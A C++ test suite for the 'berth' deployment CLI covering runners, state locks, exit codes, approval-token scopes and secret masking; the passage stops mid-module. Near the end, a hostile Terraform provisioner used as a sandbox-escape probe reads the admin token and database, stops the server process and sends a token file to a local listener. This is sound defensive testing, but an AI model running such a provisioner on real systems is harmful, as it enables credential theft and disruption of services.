// The berth CLI against a real `berth up`: the seed's runner YAML, rules, refresh-runner,
// output formats, the server's field errors printed as they are, exit codes, and a restart
// that keeps everything.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <pwd.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <nlohmann/json.hpp>
#include <thread>

#include "cli/cli.h"
#include "net/http_client.h"
#include "store/store.h"
#include "sys/fd.h"
#include "sys/files.h"
#include "sys/stream_relay.h"
#include "sys/subprocess.h"
#include "test_tools.h"

namespace berth::cli {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

constexpr const char* kGkeRunner = R"(description: GKE runner for my-cluster in europe-west3
runner_configuration:
  type: kubernetes-gke
  cluster:
    name: my-cluster
    project_id: my-gcp-project
    location: europe-west3
    auth:
      gcp_audience: //iam.googleapis.com/projects/123456789012/locations/global/workloadIdentityPools/my-wif-pool/providers/platform-orchestrator-runner
      gcp_service_account: platform-orchestrator-runner@my-gcp-project.iam.gserviceaccount.com
  job:
    namespace: platform-orchestrator-runner
    service_account: platform-orchestrator-runner
state_storage_configuration:
  type: kubernetes
  namespace: platform-orchestrator-runner
)";

class BerthCli : public ::testing::Test {
 protected:
  void SetUp() override {
    auto dir = sys::TempDir::Create("berth-cli");
    ASSERT_TRUE(dir);
    dir_.emplace(std::move(*dir));
    data_ = (dir_->Path() / "data").string();
    StartUp();
  }

  // berth up writes to a file, not a pipe: a pipe nobody reads would block it (a sanitizer
  // report at exit is long).
  void StartUp(const std::vector<std::string>& flags = {}) {
    log_ = (dir_->Path() / ("up-" + std::to_string(++starts_) + ".log")).string();
    sys::SpawnOptions options;
    // berthd's local runs find tofu on its PATH, as a user's would, and providers in the mirror.
    auto tofu = testenv::TestTool("BERTH_TEST_TOFU");
    ASSERT_TRUE(tofu) << tofu.error().ToString();
    auto mirror = testenv::TestTool("BERTH_TEST_PROVIDER_MIRROR");
    ASSERT_TRUE(mirror) << mirror.error().ToString();
    options.argv = {BERTH_CLI_BIN, "up", "--data-dir=" + data_, "--listen=127.0.0.1:0",
                    "--providers=" + mirror->string()};
    options.argv.insert(options.argv.end(), flags.begin(), flags.end());
    options.output_path = log_;
    options.env = std::vector<std::string>{
        "PATH=" + tofu->parent_path().string() + ":/usr/bin:/bin", "HOME=" + dir_->Path().string()};
    auto up = sys::Subprocess::Spawn(options);
    ASSERT_TRUE(up) << up.error().ToString();
    up_.emplace(std::move(*up));
    std::string seen;
    for (int i = 0; i < 600 && seen.find("stop with Ctrl-C") == std::string::npos; ++i) {
      ASSERT_TRUE(up_->Running()) << "berth up ended: " << seen;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
      seen = Log();
    }
    EXPECT_NE(seen.find("berth is up at http://127.0.0.1:"), std::string::npos) << seen;
  }

  std::string Log() const {
    auto text = sys::ReadFile(log_);
    return text ? *text : "";
  }

  void StopUp() {
    up_->Signal(SIGTERM);
    EXPECT_EQ(up_->Wait(), 0) << Log();
    up_.reset();
  }

  void TearDown() override {
    if (up_) StopUp();
    std::string log = Log();
    EXPECT_EQ(log.find("Sanitizer"), std::string::npos) << log;
  }

  // env: the whole environment; by default one that finds berth up by its data folder.
  sys::Completed Berth(const std::vector<std::string>& args,
                       const std::optional<std::vector<std::string>>& env = std::nullopt) {
    sys::SpawnOptions options;
    options.argv = {BERTH_CLI_BIN};
    options.argv.insert(options.argv.end(), args.begin(), args.end());
    options.env = env.value_or(std::vector<std::string>{
        "BERTH_DATA_DIR=" + data_, "HOME=" + dir_->Path().string(), "PATH=/usr/bin:/bin"});
    auto done = sys::RunToCompletion(options);
    EXPECT_TRUE(done);
    return done ? *done : sys::Completed{-1, ""};
  }

  // A local runner with berth state, project web, environment type development, and web/dev
  // (not yet linked to the runner).
  void CreateLocalRunnerAndEnvironment(const std::string& runner) {
    ASSERT_EQ(Berth({"create", "runner", runner, "--set", "runner_configuration.type=local",
                     "--set", "state_storage_configuration.type=berth"})
                  .exit_code,
              0);
    ASSERT_EQ(Berth({"create", "project", "web"}).exit_code, 0);
    ASSERT_EQ(Berth({"create", "env-type", "development"}).exit_code, 0);
    ASSERT_EQ(
        Berth({"create", "env", "dev", "--project", "web", "--set", "env_type_id=development"})
            .exit_code,
        0);
  }

  std::optional<sys::TempDir> dir_;
  std::string data_;
  std::optional<sys::Subprocess> up_;
  std::string log_;
  int starts_ = 0;
};

// The seed's GKE runner names a cluster and credentials berthd cannot use yet: refused, naming
// them, rather than saved and run in berthd's own cluster. The same runner for berthd's own
// cluster goes in from YAML and comes back in every format.
TEST_F(BerthCli, TheSeedRunnerGoesInFromYamlAndComesBackInEveryFormat) {
  std::string yaml = (dir_->Path() / "gke-runner-config.yaml").string();
  ASSERT_TRUE(sys::WriteFileAtomic(yaml, kGkeRunner));
  auto refused = Berth({"create", "runner", "my-gke-runner", "--set-yaml=@" + yaml});
  EXPECT_NE(refused.exit_code, 0) << refused.output;
  EXPECT_NE(refused.output.find("$.runner_configuration.cluster: is not honoured yet"),
            std::string::npos)
      << refused.output;
  EXPECT_NE(refused.output.find("$.runner_configuration.cluster.auth"), std::string::npos)
      << refused.output;
  EXPECT_NE(Berth({"get", "runner", "my-gke-runner"}).exit_code, 0) << "a refused runner was kept";

  std::string own = kGkeRunner;
  own.replace(own.find("kubernetes-gke"), 14, "kubernetes");
  own.erase(own.find("  cluster:"), own.find("  job:") - own.find("  cluster:"));
  ASSERT_TRUE(sys::WriteFileAtomic(yaml, own));
  auto created = Berth({"create", "runner", "my-runner", "--set-yaml=@" + yaml});
  ASSERT_EQ(created.exit_code, 0) << created.output;
  EXPECT_NE(created.output.find("my-runner   kubernetes   kubernetes"), std::string::npos)
      << created.output;

  // As docs/install.md shows it, kubectl's way: the whole object from a file, its id in it.
  ASSERT_TRUE(sys::WriteFileAtomic(yaml, "id: from-file\n" + own));
  auto from_file = Berth({"create", "runner", "-f", yaml});
  ASSERT_EQ(from_file.exit_code, 0) << from_file.output;
  EXPECT_NE(from_file.output.find("from-file   kubernetes   kubernetes"), std::string::npos)
      << from_file.output;
  auto no_id = Berth({"create", "project", "-f", "/dev/null"});
  EXPECT_EQ(no_id.exit_code, 2) << no_id.output;
  EXPECT_EQ(Berth({"create", "project", "-f", "/nonexistent.yaml"}).exit_code, 2);

  // berth up runs no kubernetes runners: there is no cluster to check (exit 4, the 409).
  auto check = Berth({"runner", "check", "my-runner"});
  EXPECT_EQ(check.exit_code, 4) << check.output;
  EXPECT_NE(check.output.find("start it with --kubernetes"), std::string::npos) << check.output;

  auto as_json = Berth({"get", "runner", "my-runner", "-o", "json"});
  ASSERT_EQ(as_json.exit_code, 0);
  auto doc = json::parse(as_json.output);
  EXPECT_EQ(doc["runner_configuration"]["job"]["namespace"], "platform-orchestrator-runner");
  EXPECT_EQ(doc["version"], 1);

  auto as_yaml = Berth({"get", "runners", "-o", "yaml"});
  EXPECT_NE(as_yaml.output.find("service_account: platform-orchestrator-runner"), std::string::npos)
      << as_yaml.output;

  auto updated =
      Berth({"update", "runner", "my-runner", "--set", "description=moved", "-o", "json"});
  ASSERT_EQ(updated.exit_code, 0) << updated.output;
  EXPECT_EQ(json::parse(updated.output)["version"], 2);
  // Nor can an update name a cluster this berthd (berth up: no kubernetes) cannot reach.
  auto moved = Berth({"update", "runner", "my-runner", "--set",
                      "runner_configuration.cluster.kubeconfig_context=prod"});
  EXPECT_NE(moved.exit_code, 0) << moved.output;
  EXPECT_NE(moved.output.find("$.runner_configuration.cluster: cannot be reached"),
            std::string::npos)
      << moved.output;

  auto rule = Berth({"create", "runner-rule", "--set=runner_id=my-runner", "-o", "json"});
  ASSERT_EQ(rule.exit_code, 0) << rule.output;
  auto listed = Berth({"get", "runner-rules", "--runner", "my-runner"});
  EXPECT_NE(listed.output.find(json::parse(rule.output)["id"].get<std::string>()),
            std::string::npos);
}

TEST_F(BerthCli, LabelsAreSetByKeyWithDotsAndSlashesAndCheckedByTheServer) {
  ASSERT_EQ(Berth({"create", "project", "shop"}).exit_code, 0);
  ASSERT_EQ(Berth({"create", "env-type", "staging"}).exit_code, 0);
  ASSERT_EQ(
      Berth({"create", "env", "stg", "--project", "shop", "--set=env_type_id=staging"}).exit_code,
      0);
  auto set = Berth({"update", "env", "stg", "--project", "shop",
                    "--set=labels.berth.dev/runner-spec.kubernetes_limit_cpu=2",
                    "--set=labels.team=42", "-o", "json"});
  ASSERT_EQ(set.exit_code, 0) << set.output;
  auto labels = json::parse(set.output)["labels"];
  EXPECT_EQ(labels["berth.dev/runner-spec.kubernetes_limit_cpu"], "2") << labels.dump();
  EXPECT_EQ(labels["team"], "42") << "a label value stays a string";

  auto bad = Berth({"update", "env", "stg", "--project", "shop",
                    "--set=labels.berth.dev/runner-spec.kubernetes_request_cpu=3"});
  EXPECT_EQ(bad.exit_code, 1);
  EXPECT_NE(bad.output.find("$.labels['berth.dev/runner-spec.kubernetes_request_cpu']"),
            std::string::npos)
      << bad.output;
}

// An operator breaks a lock no run will release (here one taken straight in the database, as
// by a runner lost with its node) and finds the reason in the state's history.
TEST_F(BerthCli, StateShowUnlockAndPushBreakAStuckLockAndPutAKeptStateBack) {
  CreateLocalRunnerAndEnvironment("here");
  {
    auto store = store::OpenStore("sqlite:" + (fs::path(data_) / "berth.db").string(), 1);
    ASSERT_TRUE(store) << store.error().ToString();
    ASSERT_TRUE((*store)->States().Lock(
        "default/web/dev",
        {"stuck-1", R"({"ID":"stuck-1","Operation":"OperationTypeApply","Who":"gone@node"})", 0,
         "d-lost"}));
  }
  auto shown = Berth({"state", "show", "dev", "--project", "web", "-o", "json"});
  ASSERT_EQ(shown.exit_code, 0) << shown.output;
  auto state = json::parse(shown.output);
  EXPECT_EQ(state["lock"]["run_id"], "d-lost");
  EXPECT_EQ(state["lock"]["who"], "gone@node");

  EXPECT_EQ(Berth({"state", "unlock", "dev", "--project", "web"}).exit_code, 2)
      << "--reason is required";
  auto unlocked =
      Berth({"state", "unlock", "dev", "--project", "web", "--reason", "node-7 is gone"});
  ASSERT_EQ(unlocked.exit_code, 0) << unlocked.output;
  auto after =
      json::parse(Berth({"state", "show", "dev", "--project", "web", "-o", "json"}).output);
  EXPECT_TRUE(after["lock"].is_null());
  EXPECT_EQ(after["history"][0]["detail"], "lock stuck-1 of run d-lost broken: node-7 is gone");
  auto again = Berth({"state", "unlock", "dev", "--project", "web", "--reason", "x"});
  EXPECT_EQ(again.exit_code, 4) << "not locked: a conflict";

  // A state kept aside goes back with `state push`, its reason in the history.
  fs::path kept = fs::path(data_).parent_path() / "kept.tfstate";
  ASSERT_TRUE(sys::WriteFileAtomic(kept, R"({"version":4,"serial":3,"lineage":"x"})"));
  EXPECT_EQ(Berth({"state", "push", "dev", "--project", "web", "--file", kept.string()}).exit_code,
            2)
      << "--reason is required";
  auto pushed = Berth({"state", "push", "dev", "--project", "web", "--file", kept.string(),
                       "--reason", "errored.tfstate of d-lost"});
  ASSERT_EQ(pushed.exit_code, 0) << pushed.output;
  auto with_push =
      json::parse(Berth({"state", "show", "dev", "--project", "web", "-o", "json"}).output);
  EXPECT_EQ(with_push["versions"], 1);
  EXPECT_EQ(with_push["history"][0]["detail"], "pushed as version 1: errored.tfstate of d-lost");
}

TEST_F(BerthCli, ErrorsArePrintedAsTheServerGaveThemWithExitCodesScriptsCanUse) {
  auto bad = Berth({"create", "runner", "bad", "--set", "runner_configuration.type=vm", "--set",
                    "state_storage_configuration.type=kubernetes"});
  EXPECT_EQ(bad.exit_code, 1);
  EXPECT_NE(bad.output.find("  $.runner_configuration.key: is required"), std::string::npos)
      << bad.output;
  EXPECT_NE(bad.output.find("vm accepts: s3, gcs, azurerm, berth"), std::string::npos)
      << bad.output;

  EXPECT_EQ(Berth({"get", "runner", "nope"}).exit_code, 3);
  ASSERT_EQ(Berth({"create", "project", "web"}).exit_code, 0);
  EXPECT_EQ(Berth({"create", "project", "web"}).exit_code, 4);
  EXPECT_EQ(Berth({"get", "widgets"}).exit_code, 2);
  EXPECT_EQ(Berth({"get"}).exit_code, 2);
  EXPECT_EQ(Berth({"create", "env", "dev"}).exit_code, 2);  // needs --project
  EXPECT_EQ(Berth({"create", "project", "x", "--set-yaml=@/nonexistent.yaml"}).exit_code, 2);
  std::string broken = (dir_->Path() / "broken.yaml").string();
  ASSERT_TRUE(sys::WriteFileAtomic(broken, "display_name: [unclosed\n"));
  auto yaml = Berth({"create", "project", "x", "--set-yaml=@" + broken});
  EXPECT_EQ(yaml.exit_code, 2);
  EXPECT_NE(yaml.output.find("invalid YAML at line"), std::string::npos) << yaml.output;
  auto json_flag = Berth({"create", "project", "x", "--set-json", "{not json"});
  EXPECT_EQ(json_flag.exit_code, 2);
  EXPECT_NE(json_flag.output.find("--set-json: must be a JSON object"), std::string::npos);
  auto elsewhere = Berth({"get", "runners", "--data-dir", (dir_->Path() / "empty").string()});
  EXPECT_EQ(elsewhere.exit_code, 5);
  EXPECT_NE(elsewhere.output.find("berth up"), std::string::npos);
}

TEST_F(BerthCli, TheServerCanBeNamedByEnvironmentOrByTheConfigFile) {
  std::string url = *sys::ReadFile(fs::path(data_) / "berthd.url");
  std::string token = *sys::ReadFile(fs::path(data_) / "admin-token");
  url.pop_back();
  token.pop_back();
  std::string home = (dir_->Path() / "home").string();
  fs::create_directories(home);
  auto by_env = Berth({"create", "project", "from-env"},
                      std::vector<std::string>{"BERTH_API_URL=" + url, "BERTH_TOKEN=" + token,
                                               "BERTH_ORG=default", "HOME=" + home});
  EXPECT_EQ(by_env.exit_code, 0) << by_env.output;
  auto wrong =
      Berth({"get", "projects"},
            std::vector<std::string>{"BERTH_API_URL=" + url, "BERTH_TOKEN=nope", "HOME=" + home});
  EXPECT_EQ(wrong.exit_code, 1);
  EXPECT_NE(wrong.output.find("Unauthenticated"), std::string::npos);

  fs::create_directories(home + "/.config/berth");
  ASSERT_TRUE(sys::WriteFileAtomic(home + "/.config/berth/config.yaml",
                                   "api_url: " + url + "\norg: default\ntoken: " + token + "\n"));
  auto by_file = Berth({"get", "projects"}, std::vector<std::string>{"HOME=" + home});
  EXPECT_EQ(by_file.exit_code, 0) << by_file.output;
  EXPECT_NE(by_file.output.find("from-env"), std::string::npos);
}

TEST_F(BerthCli, RefreshRunnerPinsAndARestartKeepsEverything) {
  CreateLocalRunnerAndEnvironment("local-1");
  EXPECT_EQ(Berth({"refresh-runner", "dev", "--project", "web"}).exit_code, 4);  // no rule yet
  ASSERT_EQ(Berth({"create", "runner-rule", "catch-all", "--set", "runner_id=local-1"}).exit_code,
            0);
  auto dry = Berth({"refresh-runner", "dev", "--project", "web", "--dry-run", "-o", "json"});
  ASSERT_EQ(dry.exit_code, 0) << dry.output;
  EXPECT_EQ(json::parse(dry.output)["dry_run"], true);
  auto real = Berth({"refresh-runner", "dev", "--project", "web", "-o", "json"});
  EXPECT_EQ(json::parse(real.output)["runner_id"], "local-1");
  auto in_use = Berth({"delete", "runner", "local-1"});
  EXPECT_EQ(in_use.exit_code, 4);
  EXPECT_NE(in_use.output.find("in use by web/dev"), std::string::npos) << in_use.output;

  std::string token = *sys::ReadFile(fs::path(data_) / "admin-token");
  StopUp();
  EXPECT_FALSE(fs::exists(fs::path(data_) / "berthd.url")) << "a stopped server left its URL";
  EXPECT_EQ(Berth({"get", "runners"}).exit_code, 5);
  StartUp();
  EXPECT_EQ(*sys::ReadFile(fs::path(data_) / "admin-token"), token) << "a restart made a new token";
  auto env = Berth({"get", "env", "dev", "--project", "web", "-o", "json"});
  ASSERT_EQ(env.exit_code, 0) << env.output;
  EXPECT_EQ(json::parse(env.output)["runner_id"], "local-1");
}

TEST_F(BerthCli, TheStateBackendIsServedAndRefusesAnonymousCalls) {
  std::string url = *sys::ReadFile(fs::path(data_) / "berthd.url");
  url.pop_back();
  auto http = net::MakeCurlHttpClient();
  auto anonymous = http->Send({.url = url + "/state/v1/default/web/dev"});
  ASSERT_TRUE(anonymous);
  EXPECT_EQ(anonymous->status, 401) << anonymous->body;
  // The run tokens' key lives in the database, shared by every berthd on it, not in a file.
  EXPECT_FALSE(fs::exists(fs::path(data_) / "run-token.key"));
}

TEST_F(BerthCli, ADeploymentRunsOnALocalRunnerWithItsStateInBerth) {
  CreateLocalRunnerAndEnvironment("here");
  ASSERT_EQ(Berth({"create", "runner-rule", "all", "--set", "runner_id=here"}).exit_code, 0);
  ASSERT_EQ(Berth({"refresh-runner", "dev", "--project", "web"}).exit_code, 0);

  std::string url = *sys::ReadFile(fs::path(data_) / "berthd.url");
  url.pop_back();
  std::string token = *sys::ReadFile(fs::path(data_) / "admin-token");
  token.pop_back();
  auto http = net::MakeCurlHttpClient();
  auto call = [&](const std::string& method, const std::string& path, const std::string& body) {
    net::HttpRequest request{.method = method, .url = url + path, .body = body};
    request.headers = {{"Authorization", "Bearer " + token}};
    if (!body.empty()) request.headers.emplace_back("Content-Type", "application/json");
    auto response = http->Send(request);
    EXPECT_TRUE(response);
    return response ? *response : net::HttpResponse{};
  };
  json deploy = {{"op", "apply"},
                 {"source", {{"path", (testenv::SourceDir() / "examples/hello").string()}}}};
  auto created = call("POST", "/orgs/default/projects/web/envs/dev/deployments", deploy.dump());
  ASSERT_EQ(created.status, 201) << created.body;
  std::string id = json::parse(created.body)["id"];
  json deployment;
  for (int i = 0; i < 600; ++i) {
    deployment = json::parse(call("GET", "/orgs/default/deployments/" + id, "").body);
    if (deployment["state"] == "succeeded" || deployment["state"] == "failed") break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  ASSERT_EQ(deployment["state"], "succeeded") << deployment.dump(2) << Log();
  EXPECT_EQ(deployment["result"]["run"]["op"], "apply");
  auto versions =
      json::parse(call("GET", "/orgs/default/projects/web/envs/dev/state/versions", "").body);
  ASSERT_FALSE(versions["items"].empty()) << versions.dump();
  EXPECT_EQ(versions["items"][0]["run_id"], id);
}

TEST_F(BerthCli, BerthDeployPlansApprovesAppliesAndPrintsTheOutputsOnAFreshBerthUp) {
  std::string hello = (testenv::SourceDir() / "examples/hello").string();
  auto deployed = Berth({"deploy", hello, "--env", "dev", "--var", "name=cli", "--require-approval",
                         "--auto-approve"});
  ASSERT_EQ(deployed.exit_code, 0) << deployed.output << Log();
  EXPECT_NE(deployed.output.find("created environment default/dev"), std::string::npos);
  EXPECT_NE(deployed.output.find("approved plan sha256:"), std::string::npos) << deployed.output;
  EXPECT_NE(deployed.output.find("greeting = hello, cli"), std::string::npos) << deployed.output;
  std::string id = deployed.output.substr(deployed.output.find("deployment d-") + 11, 12);

  auto logs = Berth({"logs", id});
  EXPECT_EQ(logs.exit_code, 0);
  EXPECT_NE(logs.output.find("[apply] Apply complete!"), std::string::npos) << logs.output;
  auto outputs = Berth({"outputs", id, "-o", "json"});
  ASSERT_EQ(outputs.exit_code, 0) << outputs.output;
  EXPECT_EQ(json::parse(outputs.output)["outputs"]["greeting"]["value"], "hello, cli");

  // Where its time went: the queue, each launch, the plan run and the apply run with the TF
  // steps their runner timed, the (short) wait for the approval.
  auto timings = Berth({"deployment", id, "--timings", "-o", "json"});
  ASSERT_EQ(timings.exit_code, 0) << timings.output;
  json spans = json::parse(timings.output)["spans"];
  std::vector<std::string> names;
  double sum = 0;
  for (const json& span : spans) {
    names.push_back(span["name"]);
    sum += span["seconds"].get<double>();
  }
  EXPECT_EQ(names, (std::vector<std::string>{"queued", "launch", "run", "waiting_approval",
                                             "launch", "run"}))
      << spans.dump(2);
  EXPECT_NEAR(sum, json::parse(timings.output)["total_seconds"].get<double>(), 1e-6);
  auto steps_of = [&](size_t span) {
    std::vector<std::string> steps;
    for (const json& step : spans.at(span)["steps"]) steps.push_back(step["name"]);
    return steps;
  };
  EXPECT_EQ(steps_of(2), (std::vector<std::string>{"init", "plan", "(outside TF)"}))
      << spans.dump(2);
  EXPECT_EQ(steps_of(5), (std::vector<std::string>{"apply", "(outside TF)"}))
      << "an approved plan is applied without another show or init: " << spans.dump(2);
  auto table = Berth({"deployment", id, "--timings"});
  EXPECT_NE(table.output.find("    apply"), std::string::npos) << table.output;
  EXPECT_NE(table.output.find(id + "  succeeded"), std::string::npos) << table.output;

  // Waiting for approval is not a failure; a broken module is, with its own exit code.
  auto waiting = Berth({"deploy", hello, "--env", "dev", "--var", "name=x", "--require-approval"});
  EXPECT_EQ(waiting.exit_code, 0) << waiting.output;
  EXPECT_NE(waiting.output.find("waits for approval: berth approve"), std::string::npos);
  std::string waiting_id = waiting.output.substr(waiting.output.find("deployment d-") + 11, 12);
  EXPECT_EQ(Berth({"cancel", waiting_id}).exit_code, 0);
  fs::path broken = dir_->Path() / "broken";
  fs::create_directories(broken);
  ASSERT_TRUE(sys::WriteFileAtomic(broken / "main.tf", "resource \"terraform_data\" {"));
  auto failed = Berth({"deploy", broken.string(), "--env", "dev"});
  EXPECT_EQ(failed.exit_code, kExitDeploymentFailed) << failed.output;
  EXPECT_NE(failed.output.find("failed"), std::string::npos) << failed.output;
  EXPECT_NE(failed.output.find("\n  Init: "), std::string::npos)
      << "the error kind and why: " << failed.output;
  EXPECT_EQ(Berth({"deploy", (dir_->Path() / "nowhere").string(), "--env", "dev"}).exit_code,
            kExitUsage);
}

// --auto-approve as tofu's flag means it: nothing asked for approval, so one run plans and
// applies (one init), and there is no plan to approve.
TEST_F(BerthCli, BerthDeployAutoApprovePlansAndAppliesInOneRun) {
  std::string hello = (testenv::SourceDir() / "examples/hello").string();
  auto deployed = Berth({"deploy", hello, "--env", "dev", "--var", "name=one", "--auto-approve"});
  ASSERT_EQ(deployed.exit_code, 0) << deployed.output << Log();
  EXPECT_EQ(deployed.output.find("approved plan"), std::string::npos) << deployed.output;
  EXPECT_NE(deployed.output.find("greeting = hello, one"), std::string::npos) << deployed.output;
  std::string id = deployed.output.substr(deployed.output.find("deployment d-") + 11, 12);
  auto timings = Berth({"deployment", id, "--timings", "-o", "json"});
  ASSERT_EQ(timings.exit_code, 0) << timings.output;
  json spans = json::parse(timings.output)["spans"];
  std::vector<std::string> names, steps;
  for (const json& span : spans) names.push_back(span["name"]);
  EXPECT_EQ(names, (std::vector<std::string>{"queued", "launch", "run"})) << spans.dump(2);
  for (const json& step : spans.back()["steps"]) steps.push_back(step["name"]);
  EXPECT_EQ(steps, (std::vector<std::string>{"init", "plan", "apply", "(outside TF)"}))
      << spans.dump(2);
}

// Separation of duties with the real tofu: the CI's deploy token queues an apply that stops at
// its plan (it asked for no approval), cannot approve it, and a reviewer's approve token
// applies exactly that plan. Revoked, the CI's token opens nothing.
TEST_F(BerthCli, ADeployTokenStopsAtItsPlanAndOnlyAnApproveTokenAppliesIt) {
  std::string hello = (testenv::SourceDir() / "examples/hello").string();
  ASSERT_EQ(Berth({"deploy", hello, "--env", "dev", "--var", "name=admin"}).exit_code, 0) << Log();
  auto token = [&](std::vector<std::string> flags) {
    std::vector<std::string> args = {"token", "create", "-o", "json"};
    args.insert(args.end(), flags.begin(), flags.end());
    auto made = Berth(args);
    EXPECT_EQ(made.exit_code, 0) << made.output;
    return json::parse(made.output, nullptr, false);
  };
  json ci = token({"--scope", "deploy", "--description", "ci"});
  json reviewer = token({"--scope", "approve,read", "--expires", "1h"});
  ASSERT_TRUE(ci.is_object() && reviewer.is_object());
  EXPECT_EQ(reviewer["scopes"], json({"read", "approve"}));
  auto url = sys::ReadFile(fs::path(data_) / "berthd.url");
  ASSERT_TRUE(url);
  auto as = [&](const json& t) {
    return std::vector<std::string>{"BERTH_API_URL=" + url->substr(0, url->size() - 1),
                                    "BERTH_TOKEN=" + t["secret"].get<std::string>(),
                                    "HOME=" + dir_->Path().string(), "PATH=/usr/bin:/bin"};
  };

  auto waiting = Berth({"deploy", hello, "--env", "dev", "--var", "name=ci"}, as(ci));
  ASSERT_EQ(waiting.exit_code, 0) << waiting.output << Log();
  size_t hint = waiting.output.find("berth approve d-");
  ASSERT_NE(hint, std::string::npos) << waiting.output;
  std::string id = waiting.output.substr(hint + 14, 12);
  size_t hash_at = waiting.output.find("--plan-hash ", hint) + 12;
  std::string hash = waiting.output.substr(hash_at, waiting.output.find('\n', hash_at) - hash_at);

  auto refused = Berth({"approve", id, "--plan-hash", hash}, as(ci));
  EXPECT_EQ(refused.exit_code, kExitRefused) << refused.output;
  EXPECT_NE(refused.output.find("needs scope approve"), std::string::npos) << refused.output;
  auto approved = Berth({"approve", id, "--plan-hash", hash}, as(reviewer));
  ASSERT_EQ(approved.exit_code, 0) << approved.output;
  EXPECT_EQ(Berth({"logs", "-f", id}, as(reviewer)).exit_code, 0);
  auto shown = Berth({"deployment", id, "-o", "json"}, as(reviewer));
  ASSERT_EQ(shown.exit_code, 0) << shown.output;
  json d = json::parse(shown.output);
  EXPECT_EQ(d["state"], "succeeded") << shown.output;
  EXPECT_EQ(d["created_by"], ci["id"]);
  EXPECT_EQ(d["approval"]["required"], true);
  // --auto-approve does not lend the CI's token the approve scope: its apply still stops at
  // the plan, and the approval it tries is refused.
  auto self_approved =
      Berth({"deploy", hello, "--env", "dev", "--var", "name=ci2", "--auto-approve"}, as(ci));
  EXPECT_EQ(self_approved.exit_code, kExitRefused) << self_approved.output;
  EXPECT_NE(self_approved.output.find("needs scope approve"), std::string::npos)
      << self_approved.output;
  std::string unapproved =
      self_approved.output.substr(self_approved.output.find("deployment d-") + 11, 12);
  auto still = Berth({"deployment", unapproved, "-o", "json"});
  ASSERT_EQ(still.exit_code, 0) << still.output;
  EXPECT_EQ(json::parse(still.output)["state"], "waiting_approval") << still.output;
  EXPECT_EQ(Berth({"cancel", unapproved}).exit_code, 0);

  auto listed = Berth({"token", "list"});
  EXPECT_NE(listed.output.find(ci["id"].get<std::string>()), std::string::npos) << listed.output;
  EXPECT_EQ(listed.output.find(ci["secret"].get<std::string>()), std::string::npos);
  ASSERT_EQ(Berth({"token", "revoke", ci["id"]}).exit_code, 0);
  EXPECT_EQ(Berth({"deployment", id}, as(ci)).exit_code, kExitRefused);
}

// Every shape of secret, through a real tofu run by `berth deploy`: a variable declared
// sensitive in .tf.json, a sensitive map and list printed element by element, and a PEM key
// printed line by line. None reaches the deploy's output, the stored log, the deployment (its
// result and events) or its outputs; the lines that held them are there, masked.
TEST_F(BerthCli, EveryShapeOfSecretIsMaskedInWhatBerthdKeeps) {
  fs::path module = dir_->Path() / "shapes";
  fs::create_directories(module);
  ASSERT_TRUE(sys::WriteFileAtomic(
      module / "variables.tf.json",
      R"({"variable": {"json_token": {"type": "string", "sensitive": true}}})"));
  ASSERT_TRUE(sys::WriteFileAtomic(module / "shapes.tf", R"tf(
variable "creds" {
  type      = map(string)
  sensitive = true
}
variable "ports" {
  type      = list(string)
  sensitive = true
}
variable "pem" {
  type      = string
  sensitive = true
}
resource "terraform_data" "shapes" {
  input = nonsensitive("json ${var.json_token} user ${var.creds["user"]} port ${var.ports[1]}")
}
resource "terraform_data" "pem" {
  input = nonsensitive(var.pem)
}
output "creds" {
  value     = var.creds
  sensitive = true
}
)tf"));
  const std::vector<std::string> secrets = {"jtok-5e6f7a8b9c",
                                            "svc-admin-7731",
                                            "pw-99xx88yy",
                                            "port-b-2222",
                                            "MIIBVgIBADANBgkqhkiG9w0BAQEF",
                                            "AASCAUAwggE8AgEAAkEAq7BFUpkG"};
  json vars = {{"json_token", secrets[0]},
               {"creds", {{"user", secrets[1]}, {"password", secrets[2]}}},
               {"ports", {"port-a-1111", secrets[3]}},
               {"pem", "-----BEGIN TEST KEY-----\n" + secrets[4] + "\n" + secrets[5] +
                           "\n-----END TEST KEY-----\n"}};
  fs::path var_file = dir_->Path() / "vars.json";
  ASSERT_TRUE(sys::WriteFileAtomic(var_file, vars.dump()));

  auto deployed = Berth({"deploy", module.string(), "--env", "dev", "--var-file", var_file.string(),
                         "--auto-approve"});
  ASSERT_EQ(deployed.exit_code, 0) << deployed.output << Log();
  std::string id = deployed.output.substr(deployed.output.find("deployment d-") + 11, 12);
  auto logs = Berth({"logs", id});
  EXPECT_NE(logs.output.find("json *** user *** port ***"), std::string::npos) << logs.output;
  for (const auto& shown : {deployed, logs, Berth({"deployment", id, "-o", "json"}),
                            Berth({"outputs", id, "-o", "json"})}) {
    EXPECT_EQ(shown.exit_code, 0) << shown.output;
    for (const std::string& secret : secrets)
      EXPECT_EQ(shown.output.find(secret), std::string::npos) << secret << " in\n" << shown.output;
  }
}

// Each attack prints what it got; the sandbox (launch/local/sandbox.h) leaves it nothing.
constexpr const char* kHostileModule = R"tf(variable "data" { type = string }
variable "berthd" { type = string }
variable "listener" { type = string }
resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      echo "admin-token: $(cat ${var.data}/admin-token 2>&1)"
      echo "database: $(head -c 15 ${var.data}/berth.db 2>&1)"
      echo "runs: $(ls ${var.data}/runs 2>&1)"
      kill -STOP ${var.berthd} 2>/dev/null && echo "berthd: stopped" || echo "berthd: out of reach"
      echo "processes: $(ls /proc | grep -c '^[0-9]')"
      python3 -c 'import ctypes; print("ptrace:", ctypes.CDLL(None).ptrace(0, 0, 0, 0))'
      unshare -r true 2>/dev/null && echo "namespace: made" || echo "namespace: refused"
      echo "whoami: $(id -u)"
      cp "$BERTH_TOKEN_FILE" "${var.data}/kept-token" 2>/dev/null && echo "token: kept" || echo "token: not kept"
      python3 -c 'import os, socket; socket.create_connection(("127.0.0.1", ${var.listener})).sendall(open(os.environ["BERTH_TOKEN_FILE"], "rb").read())'
    EOT
  }
}
)tf";

// A module run by a runner with `network: berthd_only` reaches nothing but berthd, through
// the relay in its run folder: its plan, log, state and result still arrive.
constexpr const char* kNetworkProbeModule = R"tf(variable "listener" { type = string }
terraform {
  required_providers {
    berthtest = { source = "berth/berthtest", version = "0.1.0" }
  }
}
# A provider starts and answers: its plugin socket needs no network.
resource "berthtest_file" "written" {
